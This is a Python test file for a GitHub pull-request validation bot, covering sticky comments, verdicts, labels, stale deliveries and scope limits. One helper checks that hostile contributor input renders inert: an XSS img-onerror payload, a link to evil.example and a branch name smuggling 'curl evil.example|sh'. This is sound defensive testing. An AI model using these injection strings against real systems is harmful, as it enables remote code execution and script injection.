"""The bot end to end, as Actions runs it (`bot.main.run(env)`), against the GitHub stand-in, driven by real payloads:
verdicts from workflow_run, scope and cap on pull_request, duplicates and out-of-order deliveries, API-call bounds."""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING

from tests.support.github_standin import fake_sha as sha

if TYPE_CHECKING:
    from tests.conftest_github import World

REPO = "arena-org/arena"

ENV_FILES = ["environments/sample-task/task.md", "environments/sample-task/verifier.py",
             "environments/sample-task/environment/Dockerfile"]


def test_fork_pr_with_a_broken_environment_gets_one_comment_naming_every_problem_then_a_fixed_push_turns_it_green(
        world: World, reports: dict[str, Path]) -> None:
    hub = world.hub
    number, opened = world.open_fork_pr(ENV_FILES, sha(1))
    assert world.run("pull_request_target", opened) == 0
    pending = world.sticky(number)
    assert "⏳ Arena check running" in pending["body"] and world.status(sha(1))["state"] == "pending"

    assert world.run("workflow_run", world.run_event(number, run_id=501), reports["broken"]) == 0
    red = world.sticky(number)
    body = red["body"]
    assert red["id"] == pending["id"]
    assert body.splitlines()[0] == "<!-- posttrain-arena:sticky -->"
    assert body.splitlines()[2] == "## ❌ Arena check failed: `sample-task` · 3 errors, 1 warning"
    blob = f"https://github.com/{REPO}/blob/{sha(1)}/environments/sample-task"
    for check, link in [("ARENA401", f"{blob}/environment/Dockerfile#L1"),
                        ("ARENA403", f"{blob}/environment/Dockerfile#L4"), ("ARENA202", f"{blob}/task.md#L36")]:
        row = next(line for line in body.splitlines() if f"`{check}`" in line and line.startswith("| ❌"))
        assert f"({link})" in row, row
    assert f"| ⚠️ warning | `ARENA005` | [environment/logo.bin]({blob}/environment/logo.bin) |" in body
    assert "```sh\narena check environments/sample-task\n```" in body
    assert re.search(r"<details><summary>\d+ checks passed, 1 note</summary>", body)
    assert "**Timings:** static checks of this package took" in body
    assert "https://github.com/arena-org/arena/actions/runs/501" in body
    assert hub.labels(REPO, number) == ["arena: checks failed"]
    assert world.status(sha(1))["state"] == "failure"
    _assert_inert(body)

    hub.push(REPO, number, sha(2))
    assert world.run("pull_request_target", world.pr_event("synchronize", number)) == 0
    assert "⏳" in world.sticky(number)["body"] and world.status(sha(2))["state"] == "pending"
    assert world.run("workflow_run", world.run_event(number, run_id=502, conclusion="success"), reports["fixed"]) == 0
    green = world.sticky(number)
    assert green["id"] == pending["id"] and len(hub.comments(REPO, number)) == 1
    assert green["body"].splitlines()[2].startswith("## ✅ Arena check passed: `sample-task` · 0 errors, 0 warnings")
    assert "/arena train" in green["body"] and "| ❌" not in green["body"]
    assert hub.labels(REPO, number) == ["arena: checks passed"]
    assert world.status(sha(2))["state"] == "success" and world.status(sha(1))["state"] == "failure"


def _assert_inert(body: str) -> None:
    """Nothing a contributor wrote can act as HTML, a mention, a link, an image or a marker."""
    assert body.count("<!--") == 2  # the bot's own two marker lines
    assert "<img" not in body and "@octocat" not in body and "](http://evil" not in body
    assert "&lt;img src=x onerror=alert\\(1\\)&gt; @\u200boctocat \\| \\[x\\]\\(http:\u200b//evil.example\\)" in body
    assert 'attacker:a";curl\\$\\{IFS\\}evil.example\\|sh;#' in body  # the hostile branch name, inert
    for line in body.splitlines():
        if line.startswith("| ") and not line.startswith("|---"):
            assert len(re.findall(r"(?<!\\)\|", line)) == 6, line  # five cells: no row broken by a pipe


def test_duplicate_delivery_costs_one_listing_and_writes_nothing(world: World, reports: dict[str, Path]) -> None:
    number, _ = world.open_fork_pr(ENV_FILES, sha(1))
    event = world.run_event(number, run_id=601)
    assert world.run("workflow_run", event, reports["broken"]) == 0
    first = len(world.hub.log)
    assert first <= 9, [(e.method, e.path) for e in world.hub.log]
    assert world.run("workflow_run", event, reports["broken"]) == 0
    again = world.hub.log[first:]
    assert [e.method for e in again] == ["GET"] * 4, [(e.method, e.path) for e in again]
    assert sum(e.path.endswith(f"/issues/{number}/comments") for e in again) == 1
    assert len(world.stickies(number)) == 1 and len(world.hub.statuses(REPO, sha(1))) == 1


def test_a_stale_report_for_an_old_head_never_overwrites_the_newer_verdict(world: World,
                                                                          reports: dict[str, Path]) -> None:
    number, _ = world.open_fork_pr(ENV_FILES, sha(1))
    old_run = world.run_event(number, run_id=701)  # validates sha(1), delivered late
    world.hub.push(REPO, number, sha(2))
    assert world.run("workflow_run", world.run_event(number, run_id=702, conclusion="success"), reports["fixed"]) == 0
    before = world.sticky(number)["body"]
    writes = world.hub.calls("POST") + world.hub.calls("PATCH")
    assert world.run("workflow_run", old_run, reports["broken"]) == 0
    assert world.sticky(number)["body"] == before and "✅" in before
    assert world.hub.calls("POST") + world.hub.calls("PATCH") == writes
    assert world.hub.statuses(REPO, sha(1)) == []


def test_an_earlier_attempt_delivered_after_a_rerun_is_ignored(world: World, reports: dict[str, Path]) -> None:
    number, _ = world.open_fork_pr(ENV_FILES, sha(1))
    event = world.run_event(number, run_id=801, attempt=2, conclusion="success")
    assert world.run("workflow_run", event, reports["fixed"]) == 0
    assert world.run("workflow_run", world.run_event(number, run_id=801, attempt=1), reports["broken"]) == 0
    assert "✅" in world.sticky(number)["body"] and world.hub.labels(REPO, number) == ["arena: checks passed"]
    assert world.run("pull_request_target", world.pr_event("reopened", number)) == 0  # pending never beats a verdict
    assert "✅" in world.sticky(number)["body"]


def test_duplicate_sticky_comments_from_racing_runs_are_folded_into_the_oldest(world: World,
                                                                              reports: dict[str, Path]) -> None:
    number, _ = world.open_fork_pr(ENV_FILES, sha(1))
    body = "<!-- posttrain-arena:sticky -->\nold"
    first = world.hub.post_comment(REPO, number, world.hub.bot_login, body)
    world.hub.post_comment(REPO, number, world.hub.bot_login, body)
    assert world.run("workflow_run", world.run_event(number, run_id=901, conclusion="success"), reports["fixed"]) == 0
    (only,) = world.stickies(number)
    assert only["id"] == first and "✅" in only["body"]


def test_a_pr_touching_more_than_one_environment_needs_a_maintainer_and_never_gets_a_verdict(
        world: World, reports: dict[str, Path]) -> None:
    files = [*ENV_FILES, "validators/static/__init__.py", "bad name/<img src=x>.py"]
    number, opened = world.open_fork_pr(files, sha(1))
    assert world.run("pull_request_target", opened) == 0
    assert world.hub.labels(REPO, number) == ["arena: needs-maintainer"]
    assert world.status(sha(1))["state"] == "failure"
    body = world.sticky(number)["body"]
    assert "Needs a maintainer" in body and "validators/static/\\_\\_init\\_\\_.py" in body
    assert "&lt;img src=x&gt;.py" in body and "<img" not in body
    assert world.run("workflow_run", world.run_event(number, run_id=1001, conclusion="success"),
                     reports["fixed"]) == 0
    assert "Needs a maintainer" in world.sticky(number)["body"] and "✅" not in world.sticky(number)["body"]
    assert world.hub.labels(REPO, number) == ["arena: needs-maintainer"]


def test_a_rename_from_outside_the_environment_counts_as_outside(world: World) -> None:
    renamed = {"filename": "environments/sample-task/helper.py", "status": "renamed",
               "previous_filename": "validators/report.py"}
    number, opened = world.open_fork_pr([*ENV_FILES, renamed], sha(1))
    assert world.run("pull_request_target", opened) == 0
    assert world.hub.labels(REPO, number) == ["arena: needs-maintainer"]
    assert "validators/report.py" in world.sticky(number)["body"]


def test_open_prs_per_author_are_capped(world: World) -> None:
    for n in range(2):
        world.open_pr([f"environments/other-task-{n}/task.md"], sha(100 + n), author="prolific")
    number, opened = world.open_pr(ENV_FILES, sha(1), author="prolific")
    assert world.run("pull_request", opened, ARENA_MAX_OPEN_PRS_PER_AUTHOR="2") == 0
    assert world.hub.labels(REPO, number) == ["arena: too-many-open-prs"]
    assert "at most 2 open pull requests" in world.sticky(number)["body"]
    assert world.run("pull_request", world.pr_event("reopened", number), ARENA_MAX_OPEN_PRS_PER_AUTHOR="3") == 0
    assert world.hub.labels(REPO, number) == [] and "⏳" in world.sticky(number)["body"]
    calls = len(world.hub.log)
    assert world.run("pull_request", world.pr_event("synchronize", number), ARENA_MAX_OPEN_PRS_PER_AUTHOR="0") == 0
    assert not any(e.path.endswith("/pulls") for e in world.hub.log[calls:])  # cap off: no listing of open PRs


def test_an_unreadable_report_still_explains_itself(world: World, tmp_path: Path) -> None:
    number, _ = world.open_fork_pr(ENV_FILES, sha(1))
    bad = tmp_path / "artifact"
    bad.mkdir()
    (bad / "report.json").write_text('{"report_version": 1, "verdict": "pass"}')
    assert world.run("workflow_run", world.run_event(number, run_id=1101), bad) == 0
    body = world.sticky(number)["body"]
    assert "No verdict: the validation report could not be read" in body and "report schema v1" in body
    assert world.status(sha(1))["state"] == "error" and world.hub.labels(REPO, number) == []
    assert world.run("workflow_run", world.run_event(number, run_id=1102), tmp_path / "missing") == 0
    assert "no report artifact was downloaded" in world.sticky(number)["body"]


def test_a_report_about_another_package_is_not_a_verdict_on_this_one(world: World, reports: dict[str, Path]) -> None:
    files = [f.replace("sample-task", "invoice-matching") for f in ENV_FILES]
    number, _ = world.open_fork_pr(files, sha(1))
    assert world.run("workflow_run", world.run_event(number, run_id=1201), reports["fixed"]) == 0
    body = world.sticky(number)["body"]
    assert "No verdict" in body and "not `environments/invoice-matching` alone" in body


def test_runs_not_triggered_by_a_pull_request_or_for_closed_prs_are_ignored(world: World) -> None:
    assert world.run("workflow_run", world.payload("workflow_run.completed.json")) == 0  # repository_dispatch
    assert world.run("workflow_run", world.payload("workflow_run.completed.with-pull-requests.json")) == 0
    number, _ = world.open_fork_pr(ENV_FILES, sha(1))
    event = world.run_event(number, run_id=1301)
    world.hub.repos[REPO].pulls[number].state = "closed"
    assert world.run("workflow_run", event) == 0
    assert world.hub.calls("POST") == world.hub.calls("PATCH") == 0


def test_two_workflows_racing_on_a_pr_with_no_sticky_leave_one_with_the_verdict(world: World,
                                                                              reports: dict[str, Path]) -> None:
    """The report run (the verdict) and the pr-events run (pending) both list the PR's comments before either has
    created the sticky; the pending run creates last, finds the verdict's sticky older than its own, and folds: one
    sticky, the verdict's, with its labels and status."""
    number, opened = world.open_fork_pr(ENV_FILES, sha(1))
    assert world.run("workflow_run", world.run_event(number, run_id=951, conclusion="success"), reports["fixed"]) == 0
    (verdict,) = world.stickies(number)
    del world.hub.repos[REPO].comments[verdict["id"]]  # as if the verdict were still being written
    # The pending run's listing is answered as it was before the verdict's run created its sticky.
    world.hub.between(rf"/issues/{number}/comments$", lambda: world.hub.post_comment(
        REPO, number, world.hub.bot_login, verdict["body"]), method="GET")
    assert world.run("pull_request_target", opened) == 0
    (only,) = world.stickies(number)
    assert only["body"] == verdict["body"] and "outcome=pass" in only["body"]
    assert world.hub.labels(REPO, number) == ["arena: checks passed"]
    assert world.status(sha(1))["state"] == "success"
